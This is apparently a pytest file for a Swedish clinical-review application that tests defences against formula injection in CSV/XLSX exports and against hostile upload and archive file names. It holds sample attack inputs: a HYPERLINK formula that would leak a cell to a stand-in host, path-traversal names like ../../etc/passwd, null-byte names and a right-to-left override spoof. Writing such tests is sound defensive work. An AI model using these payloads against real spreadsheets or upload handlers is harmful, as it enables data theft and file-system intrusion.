"""Nothing leaked: exported cells are never formulas, uploaded file names are safe, archive names unique and short."""
import csv
import hashlib
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from core import history
from core.files import csv_cell, safe_filename, unique_name
from core.models import Document
from core.services import action_export, archive
from tests.core.conftest import decide, make_review
from tests.factories import NOW, TODAY

FORMULA = '=HYPERLINK("https://example.com/stjäl?x="&A1;"Klicka")'


@pytest.mark.parametrize("uploaded, stored", [
    ("rapport.pdf", "rapport.pdf"),
    ("../../etc/passwd", "passwd"),
    ("C:\\Users\\anna\\Skrivbord\\plan.docx", "plan.docx"),
    (" .dold fil. ", "dold fil"),
    ("namn\nmed\tstyrtecken\x00.pdf", "namn med styrtecken.pdf"),
    ("Åtgärd: plan?*.xlsx", "Åtgärd_ plan__.xlsx"),
    ("CON.txt", "_CON.txt"),
    ("..", "fil"),
    ("", "fil"),
])
def test_uploaded_file_names_become_safe_base_names(uploaded, stored):
    assert safe_filename(uploaded) == stored


def test_a_long_file_name_is_cut_but_keeps_its_extension():
    name = safe_filename("../" + "å" * 300 + ".pdf")
    assert len(name) == 100 and name.endswith("å.pdf") and "/" not in name


def test_unique_names_number_the_duplicates_before_the_extension():
    taken: set[str] = set()
    assert [unique_name(n, taken) for n in ["a.pdf", "a.pdf", "A.PDF", "b"]] == ["a.pdf", "a (2).pdf",
                                                                                "A (3).PDF", "b"]


def test_formula_like_text_is_escaped_in_csv_but_numbers_and_dates_are_not():
    assert [csv_cell(v) for v in ["=1+1", "+46 8 123", "-x", "@SUM(A1)", "Vanlig text", 5, -3]] == [
        "'=1+1", "'+46 8 123", "'-x", "'@SUM(A1)", "Vanlig text", 5, -3]
    rows = [["RTG", 2025, 1, FORMULA, "", "", "Erik Lind", date(2025, 9, 30), "Medel", "Pågår", "Nej", None, "@x"]]
    data = list(csv.reader(io.StringIO(action_export.to_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert data[1][3] == "'" + FORMULA and data[1][12] == "'@x"
    assert data[1][1:3] == ["2025", "1"] and data[1][7] == "2025-09-30"


def test_a_formula_title_comes_back_from_the_xlsx_as_text(session, rtg):
    review = make_review(session, rtg)
    decide(session, rtg, review, title=FORMULA, description="-1+2")
    rows = action_export.action_rows(session, actor=rtg["erik"], today=TODAY)
    sheet = load_workbook(io.BytesIO(action_export.to_xlsx(rows))).active
    title, description, due = sheet.cell(row=2, column=4), sheet.cell(row=2, column=5), sheet.cell(row=2, column=8)
    assert (title.value, title.data_type) == (FORMULA, "s") and title.quotePrefix
    assert (description.value, description.data_type) == ("-1+2", "s")
    assert sheet.cell(row=2, column=3).data_type == "n" and due.is_date


def _attach(session, review, filename: str, data: bytes) -> Document:
    """Store a document on the review as an old upload would have (name as typed)."""
    document = Document(review_id=review.id, kind="attachment", filename=filename, media_type="application/pdf",
                        size=len(data), sha256=hashlib.sha256(data).hexdigest(), content=data, uploaded_at=NOW)
    session.add(document)
    session.flush()
    return document


def test_archive_names_are_unique_short_and_inside_the_archive(session, rtg):
    review = make_review(session, rtg)
    decide(session, rtg, review, title=FORMULA)
    first = _attach(session, review, "protokoll.pdf", b"%PDF ett")
    second = _attach(session, review, "protokoll.pdf", b"%PDF tva")
    hostile = _attach(session, review, "../../" + "x" * 240 + ".pdf", b"%PDF tre")
    with zipfile.ZipFile(io.BytesIO(archive.review_archive(session, actor=rtg["erik"], review_id=review.id,
                                                           today=TODAY, now=NOW))) as zipped:
        names = zipped.namelist()
        attachments = [n for n in names if n.startswith("bilagor/")]
        assert f"bilagor/{first.id}-protokoll.pdf" in attachments
        assert f"bilagor/{second.id}-protokoll.pdf" in attachments
        assert len(attachments) == 3 and len(set(names)) == len(names)
        assert all(".." not in n and not n.startswith("/") and len(n) <= 120 for n in names)
        long_name = next(n for n in attachments if n.startswith(f"bilagor/{hostile.id}-"))
        assert long_name.endswith(".pdf") and zipped.read(long_name) == b"%PDF tre"
        plan = load_workbook(io.BytesIO(zipped.read("åtgärdsplan-RTG.xlsx"))).active
        assert plan.cell(row=2, column=4).value == FORMULA and plan.cell(row=2, column=4).data_type == "s"


def test_archive_entry_names_do_not_take_folders_from_a_clinic_code(session, rtg):
    with history.unrecorded(session):
        rtg["clinic"].code = "../RTG"
        session.add(rtg["clinic"])
    review = make_review(session, rtg)
    with zipfile.ZipFile(io.BytesIO(archive.review_archive(session, actor=rtg["erik"], review_id=review.id,
                                                           today=TODAY, now=NOW))) as zipped:
        assert all("/" not in n for n in zipped.namelist())
        assert "åtgärdsplan-_RTG.xlsx" in zipped.namelist()


def test_uploads_are_stored_under_safe_base_names(session, rtg):
    from core.services import clinical_audits, self_assessments
    from core.services.auth import SYSTEM_ACTOR
    from tests.core.test_self_assessment import SMALL
    record = clinical_audits.register(session, actor=rtg["erik"], clinic_id=rtg["clinic"].id, now=NOW,
                                      report=(b"%PDF", "..\\..\\rapport\u202egpj.pdf"), findings=[],
                                      data={"audit_date": date(2025, 10, 1), "scope": "Berättigande",
                                            "auditors": "Extern grupp"})
    report = clinical_audits.report_of(session, actor=rtg["erik"], audit_id=record.id)
    assert (report.filename, report.media_type) == ("rapport gpj.pdf", "application/pdf")
    self_assessments.load_criteria_set(session, actor=SYSTEM_ACTOR, text=SMALL, now=NOW)
    assessment = self_assessments.start(session, actor=rtg["erik"], clinic_id=rtg["clinic"].id, year=2026,
                                        copy_last_year=False, now=NOW)
    answer = self_assessments.answers(session, actor=SYSTEM_ACTOR, assessment_id=assessment.id)[0][0]
    document = self_assessments.attach_evidence(session, actor=rtg["erik"], answer_id=answer.id, data=b"x",
                                                filename="/tmp/../" + "b" * 250 + ".docx", media_type="", now=NOW)
    assert document.filename == "b" * 95 + ".docx"


def test_the_bokslut_import_stores_its_files_under_safe_names_from_the_command_line_too(session):
    from sqlmodel import select

    from core.services.annual_report_import import import_annual_report
    from core.services.auth import SYSTEM_ACTOR
    from tests.annual_report_files import SAMPLE_2025
    from tests.factories import make_clinic, make_org
    org = make_org(session, "Demosjukhuset")
    for code in ("RTG", "NM", "ONK", "KARD", "ORT"):
        make_clinic(session, org, code)
    import_annual_report(session, actor=SYSTEM_ACTOR, data=SAMPLE_2025.read_bytes(),
                         filename="../../etc/bok\x00slut.xlsx", now=NOW)
    stored = session.exec(select(Document.filename).where(Document.kind == "workbook")).one()
    assert "/" not in stored and "\x00" not in stored and stored.endswith(".xlsx")
